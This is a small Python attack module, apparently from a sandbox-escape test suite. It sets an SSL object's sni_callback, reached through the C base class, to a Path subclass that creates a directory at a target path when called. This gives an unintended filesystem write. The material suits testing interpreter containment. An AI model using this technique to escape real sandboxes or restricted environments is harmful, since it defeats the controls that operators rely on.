"""The same, given to the class in C below the ssl module's."""
CATEGORY = "callable"
REACH = "write"
NEEDS = ("ssl",)

import operator
import pathlib

from . import payload


class Path(type(pathlib.Path())):
    """However it is called, it makes its directory."""
    __call__ = property(operator.methodcaller("mkdir"))


def attack(client, server):
    type(server).__base__.sni_callback.__set__(server, Path(payload.TARGET))
